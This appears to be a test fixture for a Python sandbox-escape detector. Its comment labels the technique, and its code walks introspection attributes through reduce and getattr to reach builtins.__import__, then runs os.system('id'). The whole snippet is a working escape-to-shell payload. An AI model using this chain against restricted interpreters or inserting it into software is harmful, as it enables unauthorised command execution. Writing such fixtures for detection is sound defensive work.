# expect: introspection; getattr-chain via reduce to codecs.IncrementalEncoder.__init__.__globals__, then builtins.__import__
from functools import reduce

root = reduce(getattr, "__class__ __base__".split(), "")
enc = next(c for c in root.__subclasses__() if c.__name__ == "IncrementalEncoder")
g = reduce(getattr, ["__init__", "__globals__"], enc)
g["builtins"].__import__("os").system("id")
